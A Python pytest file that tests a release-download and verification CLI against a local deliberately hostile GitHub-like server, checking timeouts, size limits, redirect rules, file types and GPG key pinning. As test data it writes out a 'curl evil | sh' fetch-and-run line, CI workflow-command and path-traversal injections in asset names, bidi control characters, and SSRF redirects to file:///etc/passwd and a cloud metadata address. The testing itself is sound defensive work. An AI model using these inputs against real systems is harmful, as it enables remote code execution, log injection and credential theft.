"""Every input is hostile: ``verify --github-release`` against a server of our own that drips,
lies about sizes, repeats or smuggles names, answers HTML or JSON of the wrong shape, and
redirects in loops or to another host; release directories with entries that are not regular
files; GPG signatures that count only by a pinned key; options that cannot be meant together.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.fixtures.github import SAMPLE_NAME, SAMPLE_OWNER
from tests.fixtures.publish import publish_args as shared_publish_args
from tests.fixtures.pypi import make_release
from tests.fixtures.release_kit import (
    PUBKEY,
    REPOSITORY,
    SDIST,
    TAG,
    WHEEL,
    ReleaseKit,
    release_dir,
    release_kit,
)
from upm_ci.cli import main
from upm_ci.errors import InputError, ServiceError
from upm_ci.release_download import DownloadLimits, download_release
from upm_ci.standins.github import GitHubStandIn

__all__ = ["release_dir", "release_kit"]

TOKEN = "ghs_hostileSentinelToken0123456789abcdef"
API = "/api/v3"
REPO_PATH = f"{API}/repos/{REPOSITORY}"


# ------------------------------------------------------------------------------ the server

Handler = Callable[[BaseHTTPRequestHandler], None]


@dataclass
class Seen:
    path: str
    headers: dict[str, str]


@dataclass
class Hostile:
    """A GitHub-shaped server whose answers a test replaces route by route."""

    server: ThreadingHTTPServer
    routes: dict[str, Handler] = field(default_factory=dict)
    seen: list[Seen] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    @property
    def api(self) -> str:
        return self.url + API

    def asset_requests(self) -> list[Seen]:
        return [s for s in self.seen if "/releases/assets/" in s.path]

    def release(self, assets: dict[str, bytes], **overrides: Any) -> None:
        """A published release with these assets (``overrides`` change the asset list)."""
        listing = [
            {"id": i, "name": name, "size": len(body), "state": "uploaded"}
            for i, (name, body) in enumerate(assets.items(), 1)
        ]
        self.routes[f"{REPO_PATH}/releases/tags/{TAG}"] = send_json({"id": 7, "draft": False})
        self.routes[f"{REPO_PATH}/releases/7/assets"] = send_json(overrides.get("listing", listing))
        for i, body in enumerate(assets.values(), 1):
            self.routes[f"{REPO_PATH}/releases/assets/{i}"] = send_bytes(body)


def send_json(doc: Any, status: int = 200) -> Handler:
    return send_bytes(json.dumps(doc).encode(), status, "application/json")


def send_bytes(
    body: bytes, status: int = 200, content_type: str = "application/octet-stream"
) -> Handler:
    def handle(h: BaseHTTPRequestHandler) -> None:
        h.send_response(status)
        h.send_header("Content-Type", content_type)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    return handle


def redirect(location: str, status: int = 302) -> Handler:
    def handle(h: BaseHTTPRequestHandler) -> None:
        h.send_response(status)
        h.send_header("Location", location)
        h.send_header("Content-Length", "0")
        h.end_headers()

    return handle


def start(hostile: Hostile | None = None) -> Hostile:
    state: list[Hostile] = []

    class H(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            srv = state[0]
            srv.seen.append(Seen(self.path, {k.lower(): v for k, v in self.headers.items()}))
            route = srv.routes.get(self.path.split("?", 1)[0])
            if route is None:
                send_json({"message": "Not Found"}, 404)(self)
                return
            try:
                route(self)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client stopped reading: what a test wants

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), H)
    server.daemon_threads = True
    made = Hostile(server)
    state.append(made)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return made


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    made = start()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture
def other_host() -> Iterator[Hostile]:
    made = start()
    yield made
    made.server.shutdown()
    made.server.server_close()


def verify_args(server: Hostile, dest: Path, tmp_path: Path, *extra: str) -> list[str]:
    return [
        "verify",
        str(dest),
        "--project",
        str(tmp_path),
        "--github-release",
        TAG,
        "--github-api-url",
        server.api,
        "--github-token",
        TOKEN,
        "--repository",
        REPOSITORY,
        *extra,
    ]


def one_line_error(capsys: pytest.CaptureFixture[str]) -> str:
    out, err = capsys.readouterr()
    lines = [ln for ln in err.splitlines() if re.match(r"upm-ci: (internal )?error", ln)]
    assert len(lines) == 1 and "internal error" not in lines[0], err
    assert "Traceback" not in err and TOKEN not in out + err
    for line in (out + err).splitlines():
        assert not line.startswith("::"), line  # nothing from the server became a command
    return lines[0]


def fast() -> DownloadLimits:
    return DownloadLimits(request_timeout=5, deadline=10, max_bytes=1 << 20)


# ------------------------------------------------------------------------------ time


def test_a_slow_drip_ends_at_the_overall_deadline_with_exit_3(
    hostile: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def drip(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Length", "100000")
        h.end_headers()
        for _ in range(100000):  # one byte per 20 ms: ~33 minutes for the whole body
            h.wfile.write(b"x")
            h.wfile.flush()
            time.sleep(0.02)

    hostile.release({WHEEL: b"x" * 100000})
    hostile.routes[f"{REPO_PATH}/releases/assets/1"] = drip
    dest = tmp_path / "dl"

    code = main(verify_args(hostile, dest, tmp_path, "--download-deadline", "0.5"))

    line = one_line_error(capsys)
    assert code == 3, line
    assert "deadline of 0.5 s" in line
    assert list(dest.iterdir()) == []  # the partial file is gone


def test_headers_that_never_come_end_at_the_deadline(hostile: Hostile, tmp_path: Path) -> None:
    gate = threading.Event()

    def silent(h: BaseHTTPRequestHandler) -> None:
        gate.wait(30)  # accepts the request, never answers

    hostile.routes[f"{REPO_PATH}/releases/tags/{TAG}"] = silent
    try:
        with pytest.raises(ServiceError, match="deadline"):
            download_release(
                hostile.api,
                TOKEN,
                REPOSITORY,
                TAG,
                tmp_path / "dl",
                limits=DownloadLimits(request_timeout=0.2, deadline=0.6),
            )
    finally:
        gate.set()


@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf"])
def test_deadlines_must_be_positive_and_finite(
    hostile: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str
) -> None:
    code = main(verify_args(hostile, tmp_path / "dl", tmp_path, "--request-timeout", value))
    assert code == 2
    assert "--request-timeout" in capsys.readouterr().err
    assert hostile.seen == []


# ------------------------------------------------------------------------------ size


def test_a_body_larger_than_declared_stops_at_size_plus_one(
    hostile: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sent: list[int] = []

    def flood(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.end_headers()  # no Content-Length: 300 MiB unless the client stops reading
        chunk = b"A" * (1 << 16)
        for _ in range(300 * 16):
            h.wfile.write(chunk)
            sent.append(len(chunk))

    hostile.release({WHEEL: b"12345"})
    hostile.routes[f"{REPO_PATH}/releases/assets/1"] = flood
    dest = tmp_path / "dl"

    code = main(verify_args(hostile, dest, tmp_path))

    line = one_line_error(capsys)
    assert code == 1, line
    assert f"asset {WHEEL} is larger than the release says (5 bytes)" in line
    assert list(dest.iterdir()) == []
    assert sum(sent) < 300 << 20  # the client stopped reading


def test_a_release_larger_than_the_cap_is_refused_before_any_download(
    hostile: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile.release({WHEEL: b"w" * 600, SDIST: b"s" * 600})
    code = main(verify_args(hostile, tmp_path / "dl", tmp_path, "--max-download-bytes", "1000"))
    line = one_line_error(capsys)
    assert code == 1 and "1200 bytes" in line and "--max-download-bytes" in line
    assert hostile.asset_requests() == []


# ------------------------------------------------------------------------------ names


@pytest.mark.parametrize(
    ("names", "message"),
    [
        ([WHEEL, WHEEL], f"two assets are named {WHEEL}"),
        (["a.whl\n::error::pwned", WHEEL], "control character"),
        (["../escape.whl", WHEEL], "path separator"),
        ([".hidden", WHEEL], "starts with a dot"),
        (["", WHEEL], "is empty"),
    ],
    ids=["duplicate", "newline", "dot-dot", "dot", "empty"],
)
def test_asset_names_must_be_plain_and_unique(
    hostile: Hostile,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    names: list[str],
    message: str,
) -> None:
    listing = [{"id": i, "name": n, "size": 3, "state": "uploaded"} for i, n in enumerate(names, 1)]
    hostile.release({"x": b"abc", "y": b"abc"}, listing=listing)
    dest = tmp_path / "dl"

    code = main(verify_args(hostile, dest, tmp_path))

    line = one_line_error(capsys)
    assert code == 1, line
    assert message in line
    assert "::error::pwned" not in line.replace("\\n::error::pwned", "")  # shown escaped
    assert hostile.asset_requests() == []  # refused before any download
    assert not dest.exists() and not (tmp_path / "escape.whl").exists()


def test_an_unfinished_asset_name_is_escaped_too(
    hostile: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    listing = [{"id": 1, "name": WHEEL, "size": 3, "state": "starter\n::error::x"}]
    hostile.release({WHEEL: b"abc"}, listing=listing)
    assert main(verify_args(hostile, tmp_path / "dl", tmp_path)) == 1
    assert "is in state 'starter\\n::error::x'" in one_line_error(capsys)


# ------------------------------------------------------------------------------ malformed


@pytest.mark.parametrize(
    ("route", "answer", "message"),
    [
        ("tag", send_bytes(b"<!DOCTYPE html><html>Sign in</html>", 200, "text/html"), "not JSON"),
        ("tag", send_json(["a", "list"]), "not a published release"),
        ("tag", send_json({"id": "7"}), "not a published release"),
        ("tag", send_json({"id": True}), "not a published release"),
        ("assets", send_json({"id": 1}), "not a list of assets"),
        ("assets", send_json([{"id": 1, "name": 5, "size": 3}]), "numeric id, a name"),
        ("assets", send_json([{"id": 1, "name": WHEEL, "size": "3"}]), "numeric id, a name"),
        ("assets", send_json([{"id": 1, "name": WHEEL, "size": -3, "state": "uploaded"}]),
         "negative size"),
        ("assets", send_json(["not an object"]), "not a JSON object"),
        ("assets", send_bytes(b'{"truncated": ', 200, "application/json"), "not JSON"),
    ],
    ids=["html", "list", "id-str", "id-bool", "assets-dict", "name-int", "size-str",
         "size-negative", "asset-str", "truncated"],
)  # fmt: skip
def test_malformed_answers_are_exit_3_in_one_line(
    hostile: Hostile,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    route: str,
    answer: Handler,
    message: str,
) -> None:
    hostile.release({WHEEL: b"abc"})
    path = (
        f"{REPO_PATH}/releases/tags/{TAG}" if route == "tag" else f"{REPO_PATH}/releases/7/assets"
    )
    hostile.routes[path] = answer

    code = main(verify_args(hostile, tmp_path / "dl", tmp_path))

    line = one_line_error(capsys)
    assert code == 3, line
    assert message in line


# ------------------------------------------------------------------------------ redirects


def test_the_token_never_follows_a_redirect_to_another_host(
    hostile: Hostile, other_host: Hostile, tmp_path: Path
) -> None:
    hostile.release({WHEEL: b"wheel bytes", SDIST: b"sdist bytes"})
    # GitHub answers an asset download with a redirect to its storage host.
    hostile.routes[f"{REPO_PATH}/releases/assets/1"] = redirect(f"{other_host.url}/s/1?sig=abc")
    other_host.routes["/s/1"] = send_bytes(b"wheel bytes")

    dest = download_release(hostile.api, TOKEN, REPOSITORY, TAG, tmp_path / "dl", limits=fast())

    assert (dest / WHEEL).read_bytes() == b"wheel bytes"
    assert (dest / SDIST).read_bytes() == b"sdist bytes"
    assert [s.path for s in other_host.seen] == ["/s/1?sig=abc"]
    assert "authorization" not in other_host.seen[0].headers
    assert all(s.headers.get("authorization") == f"Bearer {TOKEN}" for s in hostile.seen)


@pytest.mark.parametrize(
    ("chain", "message"),
    [
        ({"/a": "/a"}, "redirect loop"),
        ({"/a": "/b", "/b": "/a"}, "redirect loop"),
        ({f"/{i}": f"/{i + 1}" for i in range(10)}, "more than 5 redirects"),
        ({"/a": "file:///etc/passwd"}, "not an http(s) URL"),
    ],
    ids=["self", "two", "long", "file"],
)
def test_redirect_loops_and_odd_targets_are_exit_3(
    hostile: Hostile,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    chain: dict[str, str],
    message: str,
) -> None:
    hostile.release({WHEEL: b"abc"})
    first = next(iter(chain))
    hostile.routes[f"{REPO_PATH}/releases/assets/1"] = redirect(hostile.url + first)
    for source, target in chain.items():
        hostile.routes[source] = redirect(target if ":" in target else hostile.url + target)
    dest = tmp_path / "dl"

    code = main(verify_args(hostile, dest, tmp_path))

    line = one_line_error(capsys)
    assert code == 3, line
    assert message in line
    assert list(dest.iterdir()) == []


# ------------------------------------------------------------------------------ directories


def test_github_release_into_a_directory_with_only_a_hidden_file_is_refused(
    hostile: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dest = tmp_path / "dl"
    dest.mkdir()
    (dest / ".keep").write_text("")
    hostile.release({WHEEL: b"abc"})
    assert main(verify_args(hostile, dest, tmp_path)) == 2
    assert "not empty" in one_line_error(capsys)
    assert hostile.seen == []


def test_download_into_a_file_or_a_symlink_is_refused(hostile: Hostile, tmp_path: Path) -> None:
    hostile.release({WHEEL: b"abc"})
    (tmp_path / "file").write_text("a file")
    (tmp_path / "empty").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "empty")
    for dest in (tmp_path / "file", tmp_path / "link"):
        with pytest.raises(InputError, match="not a directory"):
            download_release(hostile.api, TOKEN, REPOSITORY, TAG, dest, limits=fast())
    assert hostile.seen == []


def kit_args(kit: ReleaseKit, dist: Path, *extra: str) -> list[str]:
    return [
        "verify",
        str(dist),
        "--project",
        str(dist.parent),
        "--repository",
        REPOSITORY,
        "--ref",
        TAG,
        "--trust-config",
        str(kit.trust_config),
        "--offline",
        "--gpg-fingerprint",
        kit.gpg.fingerprint,
        *extra,
    ]


def _symlink(dist: Path, tmp_path: Path) -> str:
    outside = tmp_path / "outside.txt"
    outside.write_text("not part of the release\n")
    (dist / "notes.txt").symlink_to(outside)
    return "notes.txt"


def _symlinked_wheel(dist: Path, tmp_path: Path) -> str:
    """A symlink to a real, signed release file is still not a release file."""
    real = tmp_path / WHEEL
    shutil.move(dist / WHEEL, real)
    (dist / WHEEL).symlink_to(real)
    return WHEEL


def _fifo(dist: Path, tmp_path: Path) -> str:
    os.mkfifo(dist / "pipe.whl")
    return "pipe.whl"


def _subdirectory(dist: Path, tmp_path: Path) -> str:
    (dist / "extra").mkdir()
    (dist / "extra" / "install.sh").write_text("curl evil | sh\n")
    return "extra"


@pytest.mark.parametrize(
    "make", [_symlink, _symlinked_wheel, _fifo, _subdirectory],
    ids=["symlink", "symlinked-wheel", "fifo", "subdirectory"],
)  # fmt: skip
def test_entries_that_are_not_regular_files_fail_the_release(
    release_kit: ReleaseKit,
    release_dir: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    make: Callable[[Path, Path], str],
) -> None:
    """Exit 1, not 2: what the directory holds is the release under verification, and a
    release holds regular files only (a symlink points anywhere, a FIFO blocks a reader)."""
    assert main(kit_args(release_kit, release_dir)) == 0
    capsys.readouterr()
    name = make(release_dir, tmp_path)

    code = main(kit_args(release_kit, release_dir))

    err = capsys.readouterr().err
    assert code == 1, err
    assert f"{name}: regular-file:" in err and "not a regular file" in err


# ------------------------------------------------------------------------------ GPG


def test_a_key_shipped_in_the_release_is_not_trusted_without_a_pin(
    release_kit: ReleaseKit, release_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = kit_args(release_kit, release_dir)
    unpinned = args[: args.index("--gpg-fingerprint")]
    assert main(unpinned) == 1
    err = capsys.readouterr().err
    assert f"{PUBKEY}: gpg-key: a public key shipped with the release proves nothing" in err
    assert f"{WHEEL}.asc: gpg: no pinned GPG key" in err
    assert main(args) == 0
    assert main([*unpinned, "--gpg-public-key", str(release_kit.gpg.public_key)]) == 0


def test_a_replaced_key_and_signatures_fail_against_the_pin(
    release_kit: ReleaseKit, release_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack the shipped key allowed: swap the key and re-sign with it."""
    shutil.copy(release_kit.other_gpg.public_key, release_dir / PUBKEY)
    for asc in release_dir.glob("*.asc"):
        if asc.name != PUBKEY:
            asc.unlink()
            release_kit.other_gpg.sign(release_dir / asc.name.removesuffix(".asc"))
    release_kit.seal(release_dir)  # even with a statement over the swapped files

    assert main(kit_args(release_kit, release_dir)) == 1
    signer = release_kit.other_gpg.fingerprint[-16:]
    err = capsys.readouterr().err
    assert f"{WHEEL}.asc: gpg: signed by {signer}, not by the pinned key" in err
    other = kit_args(release_kit, release_dir)
    other[other.index("--gpg-fingerprint") + 1] = release_kit.other_gpg.fingerprint
    assert main(other) == 0  # pinned to the key that did sign: fine


def test_a_distribution_without_its_asc_fails(
    release_kit: ReleaseKit, release_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (release_dir / f"{SDIST}.asc").unlink()
    assert main(kit_args(release_kit, release_dir)) == 1
    assert f"{SDIST}: gpg: no {SDIST}.asc although the release carries GPG signatures" in (
        capsys.readouterr().err
    )


def test_the_fingerprint_comes_from_the_project_config(
    release_kit: ReleaseKit, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    release_kit.copy(tmp_path / "dist")
    pyproject = tmp_path / "pyproject.toml"
    head = '[project]\nname = "upm-sample"\nversion = "1.2.0"\n\n'
    head += f'[tool.upm-release]\nrepository = "{REPOSITORY}"\n'
    base = ["verify", "--project", str(tmp_path), "--trust-config", str(release_kit.trust_config)]

    spaced = " ".join(re.findall("....", release_kit.gpg.fingerprint)).lower()
    pyproject.write_text(head + f'gpg-fingerprint = "{spaced}"\n')
    assert main(base) == 0, capsys.readouterr()

    pyproject.write_text(head + f'gpg-fingerprint = "{release_kit.other_gpg.fingerprint}"\n')
    assert main(base) == 1

    pyproject.write_text(head + 'gpg-fingerprint = "ABCD1234"\n')
    capsys.readouterr()
    assert main(base) == 2
    assert "gpg-fingerprint" in one_line_error(capsys)


# ------------------------------------------------------------------------------ options


def test_verify_project_that_does_not_exist_is_exit_2(
    release_kit: ReleaseKit, release_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = kit_args(release_kit, release_dir)
    args[args.index("--project") + 1] = str(tmp_path / "no-such-project")
    assert main(args) == 2
    assert "--project" in one_line_error(capsys)


def test_sign_refuses_a_passphrase_without_a_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["sign", "--project", str(tmp_path), "--gpg-passphrase", "hunter2"])
    assert code == 2
    line = one_line_error(capsys)
    assert "--gpg-passphrase" in line and "hunter2" not in line


@pytest.fixture
def publishable(github_standin: GitHubStandIn, tmp_path: Path) -> tuple[GitHubStandIn, Path]:
    repo = github_standin.add_repo(SAMPLE_OWNER, SAMPLE_NAME)
    github_standin.add_commit(repo, message="init", author="alice")
    return github_standin, make_release(tmp_path / "proj")


def publish_args(gh: GitHubStandIn, manifest: Path, *extra: str) -> list[str]:
    never = "http://127.0.0.1:9/never-used/"
    return shared_publish_args(
        manifest, gh, "--pypi-upload-url", never, "--no-sign-audit-log", *extra
    )


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--skip-github", "--skip-pypi"], "nothing to publish"),
        (["--trusted-publishing", "--pypi-token", "pypi-secret"], "--trusted-publishing"),
        (["--skip-pypi", "--published-json", "{file}/published.json"], "is not a directory"),
        (["--skip-pypi", "--published-json", "{tmp}/no/published.json"], "does not exist"),
    ],
    ids=["nothing-to-do", "trusted-and-token", "json-under-a-file", "json-dir-missing"],
)  # fmt: skip
def test_publish_refuses_conflicting_options_before_anything_happens(
    publishable: tuple[GitHubStandIn, Path],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    extra: list[str],
    message: str,
) -> None:
    gh, manifest = publishable
    existing = tmp_path / "existing-file"
    existing.write_text("")
    extra = [e.format(file=existing, tmp=tmp_path) for e in extra]
    before_state, before_manifest = gh.snapshot(), manifest.read_text()

    code = main(publish_args(gh, manifest, *extra))

    line = one_line_error(capsys)
    assert code == 2, line
    assert message in line and "pypi-secret" not in line
    assert gh.requests == [] and gh.snapshot() == before_state
    assert manifest.read_text() == before_manifest


def test_release_notes_pin_the_identity_sign_recorded(tmp_path: Path) -> None:
    """Signed in the reusable workflow: the notes name its identity, and pin the caller's
    repository and tag (that identity is the same for every repository that calls it)."""
    from upm_ci.manifest import Manifest
    from upm_ci.project import load_project
    from upm_ci.publish.notes import release_notes

    path = make_release(tmp_path / "proj")
    manifest = Manifest.load(path)
    reusable = (
        f"https://github.com/unexpected/upm-release/.github/workflows/upm-release.yml@{'a' * 40}"
    )
    repo = f"{SAMPLE_OWNER}/{SAMPLE_NAME}"
    manifest.record_phase(
        "sign", "pass", identity=reusable, repository=repo, ref="refs/tags/v1.2.0"
    )

    body = release_notes(load_project(path.parent), manifest, repository=repo, tag="v1.2.0")

    wheel = "upm_sample-1.2.0-py3-none-any.whl"
    [line] = [ln for ln in body.splitlines() if ln.startswith("sigstore verify github ")]
    assert line.startswith(
        f"sigstore verify github --cert-identity {reusable} --repository {repo}"
        " --ref refs/tags/v1.2.0 SHA256SUMS "
    )
    assert f" {wheel} " in line and line.endswith(" && sha256sum -c SHA256SUMS")
    assert (
        f"upm-ci verify --github-release v1.2.0 --repository {repo} --ref refs/tags/v1.2.0"
        f" --identity {reusable}"
    ) in body
    assert f"{repo}/.github/workflows/release.yml@" not in body


def _with_statement(tmp_path: Path, payload: bytes) -> tuple[Any, Any, str]:
    """A release whose manifest lists a release statement (a DSSE bundle with ``payload``)."""
    import base64

    from upm_ci.layout import RELEASE_STATEMENT
    from upm_ci.manifest import Manifest
    from upm_ci.project import load_project

    path = make_release(tmp_path / "proj")
    manifest = Manifest.load(path)
    statement = manifest.resolve(manifest.distributions()[0]).with_name(RELEASE_STATEMENT)
    envelope = {"payload": base64.b64encode(payload).decode(), "payloadType": "x", "signatures": []}
    statement.write_text(json.dumps({"dsseEnvelope": envelope}))
    manifest.add_file(statement, "sigstore-bundle")  # its own kind once sign writes it
    return load_project(path.parent), manifest, f"{SAMPLE_OWNER}/{SAMPLE_NAME}"


def test_release_notes_print_gh_for_every_file_of_the_release_statement(tmp_path: Path) -> None:
    from upm_ci.layout import RELEASE_STATEMENT, VSA_PREDICATE_TYPE
    from upm_ci.publish.notes import release_notes

    names = ["upm_sample-1.2.0-py3-none-any.whl", "SHA256SUMS", "unipkg.yaml"]
    subjects = [{"name": n, "digest": {"sha256": "ab" * 32}} for n in names]
    subjects.append({"name": "127.0.0.1:5000/upm/sample", "digest": {"sha256": "cd" * 32}})
    statement = {"_type": "https://in-toto.io/Statement/v1", "subject": subjects}
    project, manifest, repo = _with_statement(tmp_path, json.dumps(statement).encode())

    body = release_notes(project, manifest, repository=repo, tag="v1.2.0")

    lines = [ln for ln in body.splitlines() if f"--bundle {RELEASE_STATEMENT}" in ln]
    assert [ln.split()[3] for ln in lines] == names  # the image is checked from its registry
    identity = f"https://github.com/{repo}/.github/workflows/release.yml@refs/tags/v1.2.0"
    for line in lines:
        assert line.startswith("gh attestation verify ")
        assert f"--repo {repo} --cert-identity {identity}" in line
        assert "--source-ref refs/tags/v1.2.0" in line
        assert line.endswith(f"--predicate-type {VSA_PREDICATE_TYPE}")
    assert f"`{RELEASE_STATEMENT}`" in body


@pytest.mark.parametrize(
    "payload",
    [b"not json", b'{"subject": [{"name": "a"}]}', b"[]"],
    ids=["json", "subject", "list"],
)
def test_release_notes_refuse_an_unreadable_release_statement(
    tmp_path: Path, payload: bytes
) -> None:
    from upm_ci.publish.notes import release_notes

    project, manifest, repo = _with_statement(tmp_path, payload)
    with pytest.raises(InputError, match="release-statement.sigstore.json"):
        release_notes(project, manifest, repository=repo, tag="v1.2.0")


# ------------------------------------------------------------------------------ names, addresses
# (issue 20) bidi and C1 controls, redirects into private networks, tokens over plain http


@pytest.mark.parametrize(
    "name",
    [
        "upm_sample-1.2.0-py3-none-any\u202eslx.whl",  # RIGHT-TO-LEFT OVERRIDE
        "upm_sample-1.2.0\x85.whl",  # NEXT LINE (C1)
        "upm_sample-1.2.0\x9b31m.whl",  # CONTROL SEQUENCE INTRODUCER (C1)
        "upm_sample-1.2.0\x80.whl",
        "upm_sample-1.2.0\u2066x\u2069.whl",  # isolates
        "upm_sample-1.2.0\u200f.whl",  # RIGHT-TO-LEFT MARK
        "upm_sample-1.2.0\u061c.whl",  # ARABIC LETTER MARK
    ],
    ids=["rlo", "nel", "csi", "c1-80", "isolate", "rlm", "alm"],
)
def test_asset_names_with_bidi_or_c1_controls_are_refused_before_any_download(
    hostile: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    listing = [
        {"id": 1, "name": name, "size": 3, "state": "uploaded"},
        {"id": 2, "name": WHEEL, "size": 3, "state": "uploaded"},
    ]
    hostile.release({"x": b"abc", "y": b"abc"}, listing=listing)
    dest = tmp_path / "dl"

    code = main(verify_args(hostile, dest, tmp_path))

    line = one_line_error(capsys)
    assert code == 1, line
    assert "has a control character or a bidi control" in line
    assert line.isascii(), line  # shown escaped, never as the character itself
    assert hostile.asset_requests() == []
    assert not dest.exists()


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("http://169.254.169.254/latest/meta-data/", "link-local"),
        ("http://[fe80::1]:8080/x", "link-local"),
        ("http://[::ffff:169.254.169.254]/x", "link-local"),
        ("http://10.0.0.7/asset", "private or reserved"),
        ("http://192.168.1.1:9000/asset", "private or reserved"),
        ("http://172.16.5.4/asset", "private or reserved"),
        ("http://[fd00::1]/asset", "private or reserved"),
        ("http://0.0.0.0:80/asset", "private or reserved"),
        ("http://100.64.0.1/asset", "private or reserved"),
    ],
)
def test_a_redirect_into_a_private_network_is_not_followed(
    hostile: Hostile,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    target: str,
    message: str,
) -> None:
    """Refused when the redirect is read, before any connection (pytest-socket would stop one
    to these hosts with another error)."""
    hostile.release({WHEEL: b"abc"})
    hostile.routes[f"{REPO_PATH}/releases/assets/1"] = redirect(target)
    dest = tmp_path / "dl"

    code = main(verify_args(hostile, dest, tmp_path))

    line = one_line_error(capsys)
    assert code == 3, line
    assert "refused" in line and message in line
    assert list(dest.iterdir()) == []


def test_a_redirect_from_loopback_to_localhost_is_followed(
    hostile: Hostile, other_host: Hostile, tmp_path: Path
) -> None:
    """The stand-ins redirect on this machine: loopback to loopback, by name too, stays allowed."""
    hostile.release({WHEEL: b"wheel bytes"})
    port = other_host.server.server_address[1]
    hostile.routes[f"{REPO_PATH}/releases/assets/1"] = redirect(f"http://localhost:{port}/s/1")
    other_host.routes["/s/1"] = send_bytes(b"wheel bytes")

    dest = download_release(hostile.api, TOKEN, REPOSITORY, TAG, tmp_path / "dl", limits=fast())

    assert (dest / WHEEL).read_bytes() == b"wheel bytes"
    assert "authorization" not in other_host.seen[0].headers  # another origin: no token


def _resolver(table: dict[str, str]) -> Callable[..., list[tuple[Any, ...]]]:
    """A stand-in for ``socket.getaddrinfo`` (the one seam: no other host answers here)."""

    def resolve(host: str, port: int, **_: Any) -> list[tuple[Any, ...]]:
        return [(0, 0, 0, "", (table[host], port))]

    return resolve


@pytest.mark.parametrize(
    ("source", "target", "problem"),
    [
        ("https://api.example.com/x", "http://127.0.0.1:8080/admin", "loopback"),
        ("https://api.example.com/x", "http://[::1]:8080/admin", "loopback"),
        ("https://api.example.com/x", "https://rebind.example.net/a", "loopback"),
        ("https://api.example.com/x", "https://inside.example.net/a", "private"),
        ("https://api.example.com/x", "https://objects.example.org/a", None),
        ("http://127.0.0.1:5000/x", "http://127.0.0.1:5001/a", None),
        ("http://localhost:5000/x", "http://[::1]:5001/a", None),
    ],
)
def test_the_redirect_address_rule(source: str, target: str, problem: str | None) -> None:
    from upm_ci.release_download import redirect_address_problem

    resolve = _resolver(
        {
            "api.example.com": "140.82.112.6",
            "rebind.example.net": "127.0.0.53",
            "inside.example.net": "10.1.2.3",
            "objects.example.org": "185.199.108.133",
            "localhost": "127.0.0.1",
        }
    )
    found = redirect_address_problem(source, target, resolve=resolve)
    assert (found is None) if problem is None else (found is not None and problem in found)


def test_a_token_is_never_sent_over_plain_http_to_another_machine(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Refused at start, before any request (a token on the wire in clear is already lost)."""
    from upm_ci.publish.github_release import GitHubApi

    with pytest.raises(InputError, match="unencrypted"):
        GitHubApi.at("http://github.example.com/api/v3", TOKEN)
    assert GitHubApi.at("http://github.example.com/api/v3", "").token == ""  # no token: fine
    assert GitHubApi.at("http://127.0.0.1:9/api/v3", TOKEN).token == TOKEN
    https = GitHubApi.at("https://github.example.com/api/v3", TOKEN)
    assert "Authorization" in https.headers("https://github.example.com/api/v3/x", "*/*")
    assert "Authorization" not in https.headers("http://github.example.com/api/v3/x", "*/*")

    dest = tmp_path / "dl"
    args = [
        "verify",
        str(dest),
        "--project",
        str(tmp_path),
        "--github-release",
        TAG,
        "--github-api-url",
        "http://github.example.com/api/v3",
        "--github-token",
        TOKEN,
        "--repository",
        REPOSITORY,
    ]
    assert main(args) == 2
    assert "unencrypted" in one_line_error(capsys)
    assert not dest.exists()
